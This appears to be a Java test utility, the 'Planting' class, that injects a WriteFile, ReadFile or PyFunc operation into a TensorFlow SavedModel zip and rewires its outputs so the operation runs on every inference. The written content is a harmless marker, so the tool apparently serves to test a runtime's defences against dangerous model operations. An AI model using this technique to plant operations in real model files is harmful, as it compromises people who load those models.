package sc.fiji.gan.tensorflow.runtime;

import java.io.IOException;
import java.nio.file.Path;
import java.util.Map;
import java.util.zip.ZipFile;

import org.tensorflow.proto.AttrValue;
import org.tensorflow.proto.DataType;
import org.tensorflow.proto.GraphDef;
import org.tensorflow.proto.MetaGraphDef;
import org.tensorflow.proto.NodeDef;
import org.tensorflow.proto.SavedModel;
import org.tensorflow.proto.SignatureDef;
import org.tensorflow.proto.TensorInfo;
import org.tensorflow.proto.TensorProto;
import org.tensorflow.proto.TensorShapeProto;

import com.google.protobuf.ByteString;

/**
 * Puts an operation that does harm into a network that is in order, so that every output comes
 * after it.
 */
public final class Planting {

	private static final String NAME = "harm";

	private Planting() {}

	/**
	 * @param arguments the zip of a SavedModel, which is changed; {@code WriteFile}, {@code ReadFile}
	 *     or {@code PyFunc}; the file that is written or read
	 */
	public static void main(final String... arguments) throws IOException {
		final Path zip = Path.of(arguments[0]);
		final SavedModel model;
		try (ZipFile file = new ZipFile(zip.toFile())) {
			model = SavedModel.parseFrom(file.getInputStream(file.getEntry("saved_model.pb")).readAllBytes());
		}
		final MetaGraphDef meta = model.getMetaGraphs(0);
		final SignatureDef signature = meta.getSignatureDefOrThrow("serving_default");
		final GraphDef.Builder graph = meta.getGraphDef().toBuilder().addNode(text(NAME + "/file", arguments[2]))
				.addNode(text(NAME + "/content", "harm was done"));
		graph.addNode(operation(arguments[1]));
		for (int i = 0; i < graph.getNodeCount(); i++)
			if (isOutput(signature, graph.getNode(i))) graph.setNode(i, after(graph.getNode(i), arguments[1]));
		SavedModelZip.write(graph.build(), signature, zip);
	}

	private static boolean isOutput(final SignatureDef signature, final NodeDef node) {
		return signature.getOutputsMap().values().stream().map(TensorInfo::getName)
				.anyMatch(name -> name.equals(node.getName() + ":0"));
	}

	/**
	 * What is written to a file makes nothing that could be used; the others take the place of the
	 * result.
	 */
	private static NodeDef after(final NodeDef output, final String operation) {
		if (operation.equals("WriteFile")) return output.toBuilder().addInput("^" + NAME).build();
		return output.toBuilder().setInput(0, NAME).build();
	}

	private static NodeDef operation(final String name) {
		final NodeDef.Builder operation = NodeDef.newBuilder().setName(NAME).setOp(name);
		if (name.equals("PyFunc"))
			return operation.putAttr("token", AttrValue.newBuilder().setS(ByteString.copyFromUtf8("script")).build())
					.build();
		operation.addInput(NAME + "/file");
		return name.equals("WriteFile") ? operation.addInput(NAME + "/content").build() : operation.build();
	}

	private static NodeDef text(final String name, final String text) {
		final AttrValue type = AttrValue.newBuilder().setType(DataType.DT_STRING).build();
		final AttrValue value = AttrValue.newBuilder().setTensor(TensorProto.newBuilder().setDtype(DataType.DT_STRING)
				.setTensorShape(TensorShapeProto.getDefaultInstance()).addStringVal(ByteString.copyFromUtf8(text)))
				.build();
		return NodeDef.newBuilder().setName(name).setOp("Const").putAllAttr(Map.of("dtype", type, "value", value))
				.build();
	}
}
